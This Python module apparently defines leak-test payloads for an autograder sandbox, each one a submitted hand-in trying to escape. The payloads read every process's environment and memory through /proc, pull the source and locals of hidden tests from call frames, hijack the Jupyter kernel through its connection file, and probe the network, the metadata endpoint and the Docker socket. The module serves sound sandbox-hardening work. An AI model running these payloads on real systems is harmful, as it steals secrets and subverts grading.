"""Leaking: the hand-in looks into processes, its own and others, and for a way out."""

from __future__ import annotations

from .attack import WRONG, Attack
from .searching import READ, leaking

ENVIRONMENT = (
    READ
    + """
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    show(path)
"""
)
PROCESSES = (
    READ
    + """
for process in sorted(glob.glob("/proc/[0-9]*")):
    show(process + "/cmdline")
    for name in ("cwd", "exe", "root"):
        try:
            there = os.readlink(f"{process}/{name}")
            print(process, name, there, os.listdir(f"{process}/{name}/")[:50])
        except OSError as error:
            print(process, name, type(error).__name__)
    for place in ("course.toml", "gradebook.db", ".git/config"):
        for path in glob.glob(f"{process}/cwd/{place}") + glob.glob(f"{process}/root/*/{place}"):
            show(path)
    for number in glob.glob(process + "/fd/*"):
        try:
            print(number, os.readlink(number))
        except OSError:
            pass
"""
)
MEMORY = (
    READ
    + """
import re
for process in os.listdir("/proc"):
    if process.isdigit() and int(process) != os.getpid():
        try:
            maps, memory = open(f"/proc/{process}/maps"), open(f"/proc/{process}/mem", "rb")
            with maps, memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if " rw" in line:
                        memory.seek(start)
                        print(re.findall(rb"planted[ -~]+", memory.read(min(end - start, 2**26))))
        except (OSError, ValueError, OverflowError) as error:
            print(process, type(error).__name__)
"""
)
HIDDEN_TESTS = (
    WRONG
    + '''
import linecache, sys
plain_kd_loss = kd_loss
told = set()

def kd_loss(*inputs):
    """Print the text and the names of everything that called this."""
    frame = sys._getframe()
    while frame := frame.f_back:
        name = frame.f_code.co_filename
        if name not in told:
            told.add(name)
            print(name, "".join(linecache.getlines(name))[:5000])
            print({key: repr(value)[:500] for key, value in frame.f_locals.items()})
    return plain_kd_loss(*inputs)
'''
)
HISTORY = """
shell = get_ipython()
def look(*anything):
    print(shell.user_ns.get("In"), shell.user_ns.get("_ih"), shell.user_ns.get("Out"))
    print([line for *_, line in shell.history_manager.get_range(raw=True)])

for event in ("pre_run_cell", "post_run_cell"):
    shell.events.register(event, look)
"""
CONNECTION = (
    READ
    + """
import json
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
for path in [get_connection_file(), *glob.glob("/ipc/*.json"), *glob.glob("/course/*.json")]:
    show(path)
try:
    client = BlockingKernelClient(connection_file=get_connection_file())
    client.load_connection_file()
    client.start_channels()
    client.execute("kd_loss = None; print('second client')")
    print(client.get_iopub_msg(timeout=2))
except Exception as error:
    print(type(error).__name__, error)
"""
)
NETWORK = """
import os, socket, urllib.request
for host in ("127.0.0.1", "localhost", "example.com", "169.254.169.254", "8.8.8.8"):
    for port in (53, 80, 443, 8888):
        try:
            with socket.create_connection((host, port), timeout=0.3) as line:
                line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                print("reached", host, port, line.recv(500))
        except OSError as error:
            print(host, port, type(error).__name__)
try:
    print("reached", socket.getaddrinfo("secret.example.com", 443))
except OSError as error:
    print(type(error).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        print("reached", out.sendto(b"secret", ("8.8.8.8", 53)))
except OSError as error:
    print(type(error).__name__)
for path in ("/run/docker.sock", "/var/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)
            print("reached", path)
    except OSError as error:
        print(path, type(error).__name__)
"""


ATTACKS = (
    leaking(
        "reads-environment", "Prints the environment of every process that it can see.", ENVIRONMENT
    ),
    leaking("reads-processes", "Follows /proc to other processes' files and folders.", PROCESSES),
    leaking("reads-memory", "Searches the memory of every other process for secrets.", MEMORY),
    Attack(
        "reads-hidden-tests",
        "leaking",
        "Prints the text and the names of all that calls the answer, from frames and linecache.",
        kd_loss=HIDDEN_TESTS,
    ),
    leaking("reads-history", "Prints IPython's history before and after each test.", HISTORY),
    leaking(
        "reads-connection",
        "Reads Jupyter's connection file with its key and connects a client of its own.",
        CONNECTION,
    ),
    leaking("goes-online", "Tries sockets, name look-ups and well-known local services.", NETWORK),
)
